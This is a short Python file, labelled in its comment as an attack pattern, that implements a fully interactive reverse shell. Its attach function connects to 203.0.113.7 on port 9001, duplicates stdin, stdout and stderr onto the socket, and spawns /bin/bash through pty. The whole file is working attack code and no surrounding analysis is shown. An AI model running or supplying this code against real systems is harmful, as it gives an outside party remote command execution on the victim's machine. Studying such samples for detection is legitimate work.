# Attack pattern: socket connect followed by pty.spawn("/bin/bash") for a fully interactive reverse shell.
import os
import pty
import socket

HOST, PORT = "203.0.113.7", 9001


def attach():
    s = socket.socket()
    s.connect((HOST, PORT))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/bash")
